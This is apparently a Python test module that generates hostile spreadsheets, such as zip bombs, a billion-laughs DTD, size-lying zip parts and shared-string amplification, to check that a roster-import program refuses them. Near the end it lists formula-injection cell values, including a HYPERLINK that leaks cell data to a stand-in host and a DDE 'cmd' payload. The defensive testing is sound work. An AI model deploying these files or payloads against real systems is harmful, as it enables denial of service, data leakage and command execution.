"""A corpus of hostile and broken spreadsheets, built at test time (nothing binary is committed).

Each entry is a file a clerk might be handed — by accident (a stray entry at XFD1048576, a
password, a renamed .xls or .csv, a half-copied file) or on purpose (a zip bomb, a lying
size, a billion-laughs DTD) — with a fragment of the Chinese message the program must give.
``python -m tests.hostile_files DIR`` writes the corpus into DIR for trying by hand.
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

from workflows.core.idcard import make_id

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER = ["村民小组", "姓名", "性别", "民族", "公民身份号码", "出生日期", "联系电话", "备注"]


def column(index: int) -> str:
    """0 → A."""
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def text_cell(reference: str | None, text: str) -> str:
    where = f' r="{reference}"' if reference else ""
    return f'<c{where} t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def roster_rows(rows: list[list[str]], start: int = 1) -> str:
    """Rows of text cells with references, the header first."""
    out = []
    for number, values in enumerate([HEADER, *rows], start=start):
        cells = "".join(text_cell(f"{column(i)}{number}", value) for i, value in enumerate(values))
        out.append(f'<row r="{number}">{cells}</row>')
    return "".join(out)


def person(name: str = "张伟", sequence: int = 11, **extra: str) -> list[str]:
    from datetime import date

    values = {"村民小组": "第一村民小组", "姓名": name, "性别": "男" if sequence % 2 else "女",
              "民族": "汉族", "公民身份号码": make_id("360102", date(1980, 5, 1), sequence),
              "出生日期": "1980-05-01", "联系电话": "13812345678", "备注": ""}
    values.update(extra)
    return [values[key] for key in HEADER]


def sheet_xml(sheet_data: str, dimension: str | None = None, before: str = "") -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{before}'
            f'<worksheet xmlns="{MAIN_NS}">{dim}<sheetData>{sheet_data}</sheetData></worksheet>')


def package(sheets: dict[str, str | bytes], extra: dict[str, bytes] | None = None,
            method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A minimal .xlsx: content types, relationships, workbook, the given sheet parts."""
    names = list(sheets)
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(names) + 1))
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.'
            'openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{overrides}</Types>"),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
            'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type='
            f'"{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{MAIN_NS}" '
            f'xmlns:r="{REL_NS}"><sheets>'
            + "".join(f'<sheet name="{escape(name)}" sheetId="{i}" r:id="rId{i}"/>'
                      for i, name in enumerate(names, start=1)) + "</sheets></workbook>"),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
            'schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" '
                      f'Target="worksheets/sheet{i}.xml"/>' for i in range(1, len(names) + 1))
            + "</Relationships>"),
    }
    for i, name in enumerate(names, start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = sheets[name]
    parts.update(extra or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (what Office writes for .xls and for encrypted workbooks)."""
    sector = 512
    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    bodies = [data.ljust(max(4096, -(-len(data) // sector) * sector), b"\0") for data in streams.values()]
    fat = [fat_sector, end]  # sector 0: the FAT, sector 1: the directory
    starts = []
    for body in bodies:
        count = len(body) // sector
        starts.append(len(fat))
        fat += [len(fat) + i + 1 for i in range(count - 1)] + [end]
    fat += [free] * (sector // 4 - len(fat))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", free, right, child) + b"\0" * 36 + struct.pack("<IQ", start, size))

    names = list(streams)
    directory = entry("Root Entry", 5, 1, free, end, 0)
    for index, name in enumerate(names, start=1):
        right = index + 1 if index < len(names) else free
        directory += entry(name, 2, free, right, starts[index - 1], len(streams[name]))
    directory = directory.ljust(sector, b"\0")
    return header + struct.pack(f"<{sector // 4}I", *fat) + directory + b"".join(bodies)


def _patch_declared_size(data: bytes, part: str, size: int) -> bytes:
    """Make the zip declare ``size`` bytes for ``part`` (local header and central directory)."""
    data = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(part)
    struct.pack_into("<I", data, info.header_offset + 22, size)
    name = part.encode()
    position = data.find(b"PK\x01\x02")
    while position >= 0:
        if data[position + 46:position + 46 + len(name)] == name:
            struct.pack_into("<I", data, position + 24, size)
        position = data.find(b"PK\x01\x02", position + 4)
    return bytes(data)


def _zip_bomb() -> bytes:
    """64 MB of spaces inside sheetData, declared honestly: a ratio of about 1000."""
    padding = b" " * (64 * 1024 * 1024)
    return package({"花名册": sheet_xml(roster_rows([person()])).replace(
        "</sheetData>", padding.decode() + "</sheetData>")})


def _lying_size() -> bytes:
    """A sheet that inflates to 20 MB while the zip says 1,000 bytes."""
    sheet = sheet_xml(roster_rows([person()])).replace("</sheetData>", " " * (20 * 1024 * 1024) + "</sheetData>")
    return _patch_declared_size(package({"花名册": sheet}), "xl/worksheets/sheet1.xml", 1000)


def _many_entries() -> bytes:
    extra = {f"xl/media/image{i}.png": b"x" for i in range(5000)}
    return package({"花名册": sheet_xml(roster_rows([person()]))}, extra)


def _duplicate_names() -> bytes:
    good = sheet_xml(roster_rows([person()]))
    far = sheet_xml(roster_rows([person()]) + '<row r="1048576">' + text_cell("XFD1048576", "x") + "</row>")
    data = package({"花名册": good}, {"xl/worksheets/Sheet1.xml": far})
    return data


def _billion_laughs() -> str:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    return sheet_xml(roster_rows([person(name="&lol9;")]).replace("&amp;lol9;", "&lol9;"),
                     before=f"<!DOCTYPE worksheet [{entities}]>")


def _truncated() -> bytes:
    whole = package({"花名册": sheet_xml(roster_rows([person(name=f"张{i}", sequence=i * 2 + 1)
                                                      for i in range(200)]))})
    return whole[: len(whole) // 2]


def _too_big(path: Path) -> None:
    with path.open("wb") as handle:  # sparse: refused by its size before a byte is read
        handle.write(b"PK\x03\x04")
        handle.truncate(65 * 1024 * 1024)


def _bzip2() -> bytes:
    return package({"花名册": sheet_xml(roster_rows([person()]))}, method=zipfile.ZIP_BZIP2)


def _wide_implicit() -> str:
    """Cells without ``r`` run past XFD: their column comes from counting."""
    cells = text_cell(None, "x") * 17000
    return sheet_xml(roster_rows([person()]) + f'<row r="3">{cells}</row>')


def _implicit_far() -> str:
    """A row at 1048576 with twenty cells that carry no reference."""
    cells = text_cell(None, "x") * 20
    return sheet_xml(roster_rows([person()]) + f'<row r="1048576">{cells}</row>')


def _nested_cells() -> str:
    """A cell inside a cell (the reader would end the outer one at the inner ``</c>``)."""
    return sheet_xml(roster_rows([person()]) + '<row r="3"><c r="A3"><x><c/></x><c><v>1</v></c></c></row>')


def _long_text() -> str:
    return sheet_xml(roster_rows([person(备注="长" * 200_000)]))


def _dense_cells() -> str:
    """230,000 rows × 11 one-character cells (2.53 million, 135 MB of XML in an 11 MB file):
    just past the limit, so the check reads the whole sheet before refusing (the slowest
    refusal of the usual form)."""
    letters = [column(i) for i in range(11)]
    rows = []
    for number in range(2, 230_002):
        mark = "甲乙丙丁戊己庚辛壬癸"[number % 10]
        rows.append(f'<row r="{number}">' + "".join(
            f'<c r="{letter}{number}" t="inlineStr"><is><t>{mark}</t></is></c>' for letter in letters)
            + "</row>")
    return sheet_xml(roster_rows([]) + "".join(rows))


def _unusual_dense() -> str:
    """Cells without references, in 100,000 rows (4.1 million XML elements): the unusual form
    goes through expat, which stops at its element budget."""
    rows = []
    for number in range(100_000):
        rows.append("<row>" + "".join(f"<c><v>{(number * 20 + i) % 9973}</v></c>" for i in range(20)) + "</row>")
    return sheet_xml("".join(rows))


def _amplified() -> bytes:
    """200,000 cells that all name one 240 KB shared string: 400 KB on disk, 48 GB to read."""
    strings = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN_NS}"><si><t>{"长" * 80_000}</t></si>'
               "</sst>")
    rows = "".join(f'<row r="{n}">' + "".join(f'<c r="{column(i)}{n}" t="s"><v>0</v></c>' for i in range(10))
                   + "</row>" for n in range(2, 20_002))
    return package({"花名册": sheet_xml(roster_rows([]) + rows)}, {"xl/sharedStrings.xml": strings})


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus and what the program must say about it."""

    name: str
    expected: str  # a fragment of the Chinese message
    build: Callable[[Path], None]
    what: str
    heavy: bool = False  # takes seconds to build and to refuse (the limits at work)


def _bytes(data: Callable[[], bytes | str]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        content = data()
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return write


def _sheet(sheet: Callable[[], str]) -> Callable[[Path], None]:
    return _bytes(lambda: package({"花名册": sheet()}))


FAR = '<row r="1048576">' + text_cell("XFD1048576", "x") + "</row>"
CORPUS: tuple[Hostile, ...] = (
    Hostile("far_cell.xlsx", "第1048576行 XFD列有内容",
            _sheet(lambda: sheet_xml(roster_rows([person()]) + FAR, "A1:XFD1048576")),
            "a roster and one cell at XFD1048576 (2 KB; the reader asks for 512 GiB)"),
    Hostile("lying_dimension.xlsx", "第1048576行 XFD列有内容",
            _sheet(lambda: sheet_xml(roster_rows([person()]) + FAR, "A1:A1")),
            "the same, the <dimension> saying A1:A1"),
    Hostile("no_dimension.xlsx", "第1048576行 XFD列有内容",
            _sheet(lambda: sheet_xml(roster_rows([person()]) + FAR)),
            "the same without <dimension>"),
    Hostile("far_cell_alone.xlsx", "第1048576行 XFD列有内容",
            _sheet(lambda: sheet_xml(FAR, "A1:A1")), "only the cell at XFD1048576 (a Rust panic)"),
    Hostile("implicit_far.xlsx", "第1048576行",
            _sheet(_implicit_far), "20 cells without references on row 1048576"),
    Hostile("wide_implicit.xlsx", "列有内容",
            _sheet(_wide_implicit), "17,000 cells without references run past XFD"),
    Hostile("nested_cells.xlsx", "嵌套", _sheet(_nested_cells), "a cell inside a cell"),
    Hostile("long_text.xlsx", "连续文字", _sheet(_long_text), "a cell of 200,000 characters"),
    Hostile("amplified.xlsx", "反复引用共享字符串", _bytes(_amplified),
            "200,000 cells naming one 240 KB shared string (the reader asks for 48 GB)"),
    Hostile("dense_cells.xlsx", "共有 230001 行 × 11 列", _sheet(_dense_cells),
            "2.53 million one-character cells, just past the limit", heavy=True),
    Hostile("unusual_dense.xlsx", "XML 元素超过", _sheet(_unusual_dense),
            "4.1 million elements of cells without references", heavy=True),
    Hostile("billion_laughs.xlsx", "文档类型定义", _sheet(_billion_laughs), "a DTD entity bomb"),
    Hostile("zip_bomb.xlsx", "压缩炸弹", _bytes(_zip_bomb), "64 MB of XML in a 64 KB part"),
    Hostile("lying_size.xlsx", "比登记的大小更大", _bytes(_lying_size),
            "a part declared 1,000 bytes that inflates to 20 MB"),
    Hostile("many_entries.xlsx", "个部件", _bytes(_many_entries), "5,000 zip entries"),
    Hostile("duplicate_names.xlsx", "同名的部件", _bytes(_duplicate_names),
            "sheet1.xml and Sheet1.xml (which one does the reader take?)"),
    Hostile("bzip2.xlsx", "不常见的压缩方式", _bytes(_bzip2), "a part compressed with bzip2"),
    Hostile("encrypted.xlsx", "设置了打开密码",
            _bytes(lambda: compound_file({"EncryptionInfo": os.urandom(300),
                                          "EncryptedPackage": os.urandom(9000)})),
            "a password-protected workbook (OLE, D0 CF 11 E0)"),
    Hostile("legacy.xlsx", "97-2003", _bytes(lambda: compound_file({"Workbook": b"\x09\x08" + os.urandom(5000)})),
            "an .xls renamed to .xlsx"),
    Hostile("legacy.xls", "97-2003", _bytes(lambda: compound_file({"Workbook": b"\x09\x08" + os.urandom(5000)})),
            "an .xls"),
    Hostile("renamed_csv.xlsx", "CSV",
            _bytes(lambda: "\ufeff姓名,公民身份号码\n张伟,360102198005010011\n".encode()),
            "a CSV renamed to .xlsx"),
    Hostile("web_export.xls", "网页",
            _bytes(lambda: "<html><body><table><tr><td>姓名</td></tr></table></body></html>"),
            "an HTML table saved as .xls by a web system"),
    Hostile("xlsb.xlsx", ".xlsb", _bytes(lambda: _zip_of({"xl/workbook.bin": b"\0" * 100})),
            "an Excel binary workbook"),
    Hostile("ods.xlsx", ".ods", _bytes(lambda: _zip_of({"mimetype": b"application/vnd.oasis."
                                                         b"opendocument.spreadsheet",
                                                         "content.xml": b"<x/>"})),
            "an OpenDocument spreadsheet"),
    Hostile("random.xlsx", "内容无法识别", _bytes(lambda: os.urandom(4096)), "random bytes"),
    Hostile("truncated.xlsx", "已损坏", _bytes(_truncated), "the first half of a good roster"),
    Hostile("empty.xlsx", "空文件", _bytes(lambda: b""), "0 bytes"),
    Hostile("too_big.xlsx", "超过了 64 MB", _too_big, "65 MB"),
)


def _zip_of(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def build(folder: Path) -> dict[str, tuple[Path, Hostile]]:
    """Write the whole corpus into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    built = {}
    for hostile in CORPUS:
        path = folder / hostile.name
        hostile.build(path)
        built[hostile.name] = (path, hostile)
    return built


# A roster that opens fine but whose cells are hostile: the checks must name each cell, and
# the check report written from it must hold no formula.
HOSTILE_VALUES = ("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点击查看\")", "=cmd|' /C calc'!A0",
                  "+1+1", "-2+3", "@SUM(1)")


def hostile_cells_roster(path: Path) -> Path:
    rows = [person(HOSTILE_VALUES[0], 11), person(HOSTILE_VALUES[1], 13),
            person(HOSTILE_VALUES[2], 15), person(HOSTILE_VALUES[3], 17), person(HOSTILE_VALUES[4], 19),
            person("张_x0001_三", 21),  # Excel's escape for a control character
            person("李\u200b四\u202e", 23),  # a zero-width space and a right-to-left override
            person("阿依古丽·买买提", 25), person("阿" * 21, 27), person("阿" * 20, 29),
            person("王芳", 31, 备注=HOSTILE_VALUES[1], 联系电话=HOSTILE_VALUES[0]),
            person("赵敏", 33, 备注="@SUM(1)", 联系电话="+1+1")]
    path.write_bytes(package({"花名册": sheet_xml(roster_rows(rows))}))
    return path


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for name, (path, hostile) in build(target).items():
        print(f"{name:24} {path.stat().st_size:>10} B  {hostile.what}")
    hostile_cells_roster(target / "hostile_cells.xlsx")
